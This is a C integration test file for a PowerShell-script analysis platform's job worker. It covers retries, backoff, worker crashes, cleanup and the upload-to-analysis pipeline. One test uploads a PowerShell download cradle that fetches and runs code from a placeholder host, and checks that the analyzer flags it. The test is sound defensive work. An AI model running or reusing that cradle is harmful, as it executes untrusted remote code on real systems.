/* test-jobs.c: psscript-worker against the real queue: success, retries with backoff,
 * failure reasons, a worker killed mid-job, and LISTEN/NOTIFY wake-up */
#include "config.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "core/core.h"
#include "itest.h"
#include "t.h"

static long
enqueue(const char *type, const char *payload, int max_attempts)
{
	char sql[1024];
	const char *id;
	int64_t v;

	snprintf(sql, sizeof(sql), "INSERT INTO jobs (type, payload, max_attempts) VALUES "
	    "('%s', '%s', %d) RETURNING id", type, payload, max_attempts);
	id = it_psql(sql);
	if (id == NULL || parse_int64(id, 1, INT64_MAX, &v) != 0)
		return -1;
	return (long)v;
}

static const char *
job_field(long id, const char *expr)
{
	return it_psqlf("SELECT %s FROM jobs WHERE id = %ld", expr, id);
}

/* worker_ready: whether the job runner logging to log said " ready" within 10 s. */
static int
worker_ready(const char *log)
{
	return it_log_has(log, " ready", 10);
}

static void
test_job_runs_to_done(void)
{
	long id = enqueue("test.sleep", "{\"ms\": 50}", 3);

	T_ASSERT(id > 0);
	T_STREQ(it_job_wait(id, "done", 20), "done");
	T_STREQ(job_field(id, "attempts"), "1");
	T_STREQ(job_field(id, "finished_at IS NOT NULL"), "t");
}

static void
test_failing_job_retries_with_backoff_then_keeps_reason(void)
{
	long id = enqueue("test.sleep", "{\"fail\": \"disk on fire\"}", 3);

	T_ASSERT(id > 0);
	T_STREQ(it_job_wait(id, "failed", 30), "failed");
	T_STREQ(job_field(id, "attempts"), "3");
	T_STREQ(job_field(id, "last_error"), "disk on fire");
	/* backoff 200 ms then 400 ms: the job cannot have finished faster than that */
	T_STREQ(job_field(id, "finished_at - created_at >= interval '600 milliseconds'"), "t");
}

static void
test_unknown_job_type_fails_at_once_with_reason(void)
{
	long id = enqueue("no.such.type", "{}", 5);

	T_ASSERT(id > 0);
	T_STREQ(it_job_wait(id, "failed", 20), "failed");
	T_STREQ(job_field(id, "attempts"), "1");
	T_CONTAINS(job_field(id, "last_error"), "unknown job type");
}

static void
test_job_of_a_killed_worker_is_taken_again(void)
{
	long id = enqueue("test.sleep", "{\"ms\": 3000}", 3);

	T_ASSERT(id > 0);
	T_STREQ(it_job_wait(id, "running", 20), "running");
	T_EQ(it_harness("worker-kill"), 0);
	T_EQ(it_harness("worker-start"), 0);
	/* the heartbeat goes stale after JOB_LOCK_TIMEOUT_S (3 s in the harness) */
	T_STREQ(it_job_wait(id, "done", 40), "done");
	T_STREQ(job_field(id, "attempts"), "2");
}

static void
test_notify_wakes_an_idle_worker(void)
{
	char log[512], cmd[1200];
	long id;

	/* Replace the harness's worker by one that would poll only every 10 minutes. */
	T_EQ(it_harness("worker-kill"), 0);
	snprintf(log, sizeof(log), "%s/log/worker-notify.log", getenv("PSS_TEST_STATE"));
	snprintf(cmd, sizeof(cmd), "JOB_POLL_INTERVAL_MS=600000 PSSCRIPT_TEST_JOBS=1 "
	    "\"$PSS_BIN/psscript-worker\" >'%s' 2>&1 & echo $! >'%s.pid'", log, log);
	T_EQ(it_run("%s", cmd), 0);
	T_ASSERT(worker_ready(log));
	usleep(300000);	/* let it finish its first claim and go to sleep */
	id = enqueue("test.sleep", "{\"ms\": 1}", 1);
	T_STREQ(it_job_wait(id, "done", 15), "done");
	T_EQ(it_run("kill $(cat '%s.pid')", log), 0);
	T_EQ(it_harness("worker-start"), 0);
}

static void
test_cleanup_job_drops_expired_sessions_and_old_jobs(void)
{
	long id;

	T_ASSERT(it_psql("INSERT INTO users (username, email, password_hash) VALUES "
	    "('cleanup-user', 'cleanup@example.com', '$2b$12$abcdefghijklmnopqrstuuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ01') RETURNING id") != NULL);
	T_ASSERT(it_psql("INSERT INTO user_sessions (user_id, token_hash, kind, family_id, expires_at, csrf_token, created_at) "
	    "SELECT id, repeat('a', 64), 'access', gen_random_uuid(), now() - interval '2 days', repeat('c', 64), now() - interval '3 days' FROM users WHERE username = 'cleanup-user' "
	    "UNION ALL SELECT id, repeat('b', 64), 'access', gen_random_uuid(), now() + interval '1 day', repeat('d', 64), now() FROM users WHERE username = 'cleanup-user' RETURNING 1") != NULL);
	T_ASSERT(it_psql("INSERT INTO jobs (type, status, finished_at) VALUES ('old.job', 'done', now() - interval '8 days'), "
	    "('recent.job', 'done', now() - interval '1 day') RETURNING 1") != NULL);
	id = enqueue("maintenance.cleanup", "{}", 3);
	T_STREQ(it_job_wait(id, "done", 20), "done");
	T_STREQ(it_psql("SELECT string_agg(token_hash, ',') FROM user_sessions s JOIN users u ON u.id = s.user_id WHERE u.username = 'cleanup-user'"),
	    "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb");
	T_STREQ(it_psql("SELECT string_agg(type, ',') FROM jobs WHERE type IN ('old.job', 'recent.job')"), "recent.job");
	(void)it_psql("DELETE FROM users WHERE username = 'cleanup-user'");
}

static void
test_upload_becomes_a_script_and_gets_analysed(void)
{
	const char *id;
	char sql[1024], upload[64];

	T_ASSERT(it_psql("INSERT INTO users (username, email, password_hash) VALUES "
	    "('pipeline-user', 'pipeline@example.com', '$2b$12$abcdefghijklmnopqrstuuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ01') RETURNING id") != NULL);
	id = it_psql("INSERT INTO uploads (batch_id, user_id, filename, content, size) "
	    "SELECT gen_random_uuid(), u.id, 'cradle.ps1', convert_to(c, 'UTF8'), octet_length(convert_to(c, 'UTF8')) "
	    "FROM users u, (SELECT 'IEX (New-Object Net.WebClient).DownloadString(''http://x.example/p'')' || chr(10) AS c) t "
	    "WHERE u.username = 'pipeline-user' RETURNING id");
	T_ASSERT(id != NULL && strlen(id) == 36);
	snprintf(upload, sizeof(upload), "%s", id ? id : "");
	snprintf(sql, sizeof(sql), "INSERT INTO jobs (type, payload) VALUES ('upload.process', "
	    "jsonb_build_object('uploadId', '%s')) RETURNING id", upload);
	T_ASSERT(it_psql(sql) != NULL);
	snprintf(sql, sizeof(sql), "SELECT status FROM uploads WHERE id = '%s'", upload);
	T_STREQ(it_poll_sql(sql, "completed", 20), "completed");
	/* the new script's analysis job runs the built-in analyzer and stores every column */
	snprintf(sql, sizeof(sql), "SELECT a.risk_score >= 5 AND a.security_score < 8 "
	    "AND a.security_issues::text LIKE '%%PSSAvoidDownloadCradle%%' "
	    "AND jsonb_typeof(a.execution_summary) = 'object' AND a.provider = 'builtin' "
	    "FROM script_analysis a JOIN uploads u ON u.script_id = a.script_id WHERE u.id = '%s'", upload);
	T_STREQ(it_poll_sql(sql, "t", 30), "t");
	/* a second upload of the same content is a duplicate of the first script */
	id = it_psql("INSERT INTO uploads (batch_id, user_id, filename, content, size) "
	    "SELECT gen_random_uuid(), u.id, 'again.ps1', convert_to(c, 'UTF8'), octet_length(convert_to(c, 'UTF8')) "
	    "FROM users u, (SELECT 'IEX (New-Object Net.WebClient).DownloadString(''http://x.example/p'')' || chr(10) AS c) t "
	    "WHERE u.username = 'pipeline-user' RETURNING id");
	T_ASSERT(id != NULL);
	snprintf(upload, sizeof(upload), "%s", id ? id : "");
	snprintf(sql, sizeof(sql), "INSERT INTO jobs (type, payload) VALUES ('upload.process', "
	    "jsonb_build_object('uploadId', '%s')) RETURNING id", upload);
	T_ASSERT(it_psql(sql) != NULL);
	snprintf(sql, sizeof(sql), "SELECT status || ':' || (existing_script_id IS NOT NULL) FROM uploads WHERE id = '%s'", upload);
	T_STREQ(it_poll_sql(sql, "duplicate:true", 20), "duplicate:true");
	(void)it_psql("DELETE FROM users WHERE username = 'pipeline-user'");
}

static void
test_analysis_of_a_deleted_script_is_not_an_error(void)
{
	long id = enqueue("analysis.run", "{\"scriptId\": 999999}", 3);

	T_STREQ(it_job_wait(id, "done", 20), "done");
	id = enqueue("analysis.run", "{\"scriptId\": \"x\"}", 3);
	T_STREQ(it_job_wait(id, "failed", 20), "failed");
	T_CONTAINS(job_field(id, "last_error"), "scriptId");
}

/* ANALYZER_SETTINGS: the job runner analyses with the platform's settings file (here one
 * that enables PSAvoidLongLines, off by default, with a 20-character maximum). */
static void
test_analysis_uses_the_configured_settings(void)
{
	char log[512], psd1[512], cmd[2200], sql[1024], upload[64];
	const char *id;
	FILE *f;

	T_EQ(it_harness("worker-kill"), 0);
	snprintf(log, sizeof(log), "%s/log/worker-settings.log", getenv("PSS_TEST_STATE"));
	snprintf(psd1, sizeof(psd1), "%s/analyzer-settings.psd1", getenv("PSS_TEST_STATE"));
	f = fopen(psd1, "w");
	T_ASSERT(f != NULL);
	if (f == NULL)
		return;
	fputs("@{ Rules = @{ PSAvoidLongLines = @{ Enable = $true; MaximumLineLength = 20 } } }\n",
	    f);
	fclose(f);
	snprintf(cmd, sizeof(cmd), "ANALYZER_SETTINGS='%s' \"$PSS_BIN/psscript-worker\" >'%s' 2>&1 & "
	    "echo $! >'%s.pid'", psd1, log, log);
	T_EQ(it_run("%s", cmd), 0);
	T_ASSERT(worker_ready(log));
	T_ASSERT(it_psql("INSERT INTO users (username, email, password_hash) VALUES "
	    "('settings-user', 'settings@example.com', '$2b$12$abcdefghijklmnopqrstuuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ01') RETURNING id") != NULL);
	id = it_psql("INSERT INTO uploads (batch_id, user_id, filename, content, size) "
	    "SELECT gen_random_uuid(), u.id, 'long.ps1', convert_to(c, 'UTF8'), octet_length(convert_to(c, 'UTF8')) "
	    "FROM users u, (SELECT 'Write-Output ''a line of more than twenty characters''' || chr(10) AS c) t "
	    "WHERE u.username = 'settings-user' RETURNING id");
	T_ASSERT(id != NULL && strlen(id) == 36);
	snprintf(upload, sizeof(upload), "%s", id ? id : "");
	snprintf(sql, sizeof(sql), "INSERT INTO jobs (type, payload) VALUES ('upload.process', "
	    "jsonb_build_object('uploadId', '%s')) RETURNING id", upload);
	T_ASSERT(it_psql(sql) != NULL);
	snprintf(sql, sizeof(sql), "SELECT a.best_practice_violations::text LIKE "
	    "'%%PSAvoidLongLines%%' FROM script_analysis a JOIN uploads u "
	    "ON u.script_id = a.script_id WHERE u.id = '%s'", upload);
	T_STREQ(it_poll_sql(sql, "t", 30), "t");
	(void)it_psql("DELETE FROM users WHERE username = 'settings-user'");
	T_EQ(it_run("kill $(cat '%s.pid')", log), 0);
	T_EQ(it_harness("worker-start"), 0);
}

int
main(void)
{
	it_init();
	T_RUN(test_upload_becomes_a_script_and_gets_analysed);
	T_RUN(test_analysis_of_a_deleted_script_is_not_an_error);
	T_RUN(test_analysis_uses_the_configured_settings);
	T_RUN(test_cleanup_job_drops_expired_sessions_and_old_jobs);
	T_RUN(test_job_runs_to_done);
	T_RUN(test_failing_job_retries_with_backoff_then_keeps_reason);
	T_RUN(test_unknown_job_type_fails_at_once_with_reason);
	T_RUN(test_job_of_a_killed_worker_is_taken_again);
	T_RUN(test_notify_wakes_an_idle_worker);
	return t_done();
}
